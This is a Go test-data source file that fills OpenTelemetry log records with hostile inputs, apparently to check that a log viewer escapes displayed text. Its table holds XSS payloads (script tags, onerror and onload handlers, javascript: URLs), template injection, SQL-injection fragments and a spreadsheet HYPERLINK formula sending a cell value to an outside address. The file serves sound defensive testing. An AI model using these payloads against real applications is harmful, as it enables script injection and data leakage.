package records

import (
	"strings"

	"go.opentelemetry.io/collector/pdata/plog"
)

const hostileEvery = 401

// HostileGlobal is the name of the variable of the page's window that each hostile text
// tries to set. Where it is set, a text was run.
const HostileGlobal = "docketWasHacked"

// hostileTexts try to leave the place that a text is shown in.
var hostileTexts = []string{ //nolint:gochecknoglobals // a table
	`<script>window.` + HostileGlobal + `=1</script>`,
	`<img src=x onerror="window.` + HostileGlobal + `=1">`,
	`"><svg onload=window.` + HostileGlobal + `=1>`,
	`javascript:window.` + HostileGlobal + `=1`,
	`</pre></textarea></title><iframe srcdoc="<script>parent.` + HostileGlobal + `=1</script>"></iframe>`,
	`{{constructor.constructor('window.` + HostileGlobal + `=1')()}} ${window.` + HostileGlobal + `=1}`,
	"line one\nline two\r\n\ttabbed\u0000nul\u001b[31mred\u001b[0m \u202Egnp.exe\u202C \u200bzero-width",
	`=HYPERLINK("http://192.0.2.1/?"&A1,"click")`,
	"🙈 emoji, עברית وعربية, combining e\u0301, " + strings.Repeat("W", 400),
	`%3Cscript%3E \x3cscript\x3e &lt;b&gt; ' OR 1=1; -- \" \\ `,
}

// fillHostile makes a record that is hostile in every part.
func fillHostile(record plog.LogRecord, number int) {
	text := hostileTexts[number%len(hostileTexts)]
	severity(record, "ERROR")
	record.SetSeverityText(text)
	record.Body().SetStr("guestbook entry: " + text)
	record.SetEventName(text)
	attributes := record.Attributes()
	attributes.PutStr("comment", text)
	attributes.PutStr(text, "a hostile name")
	attributes.PutStr("constructor", "x")
	attributes.PutStr("__proto__", text)
	attributes.PutStr("url.full", "javascript:window."+HostileGlobal+"=1")
	attributes.PutStr("user.full_name", text)
	attributes.PutStr("docket.actor.type", "user")
	attributes.PutStr("docket.external_id", text)
	attributes.PutEmptyMap("metadata.old").PutStr(text, text)
	attributes.PutEmptyMap("metadata.new").PutStr(text, text+text)
	nested := attributes.PutEmptyMap("nested")
	nested.PutStr(text, text)
	nested.PutEmptySlice("list").AppendEmpty().SetStr(text)
}
